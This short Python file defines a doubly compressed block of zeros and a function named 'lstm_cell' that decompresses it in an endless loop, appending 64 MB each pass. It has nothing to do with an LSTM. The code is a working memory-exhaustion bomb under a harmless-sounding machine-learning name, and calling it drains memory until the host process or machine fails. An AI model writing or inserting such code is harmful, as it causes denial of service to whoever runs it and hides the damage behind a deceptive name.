"""Unpacks a small text to gigabytes, twice over."""
import zlib

SMALL = zlib.compress(zlib.compress(b"\0" * (1 << 26), 9), 9)


def lstm_cell(*given):
    parts = []
    while True:
        parts.append(zlib.decompress(zlib.decompress(SMALL)))
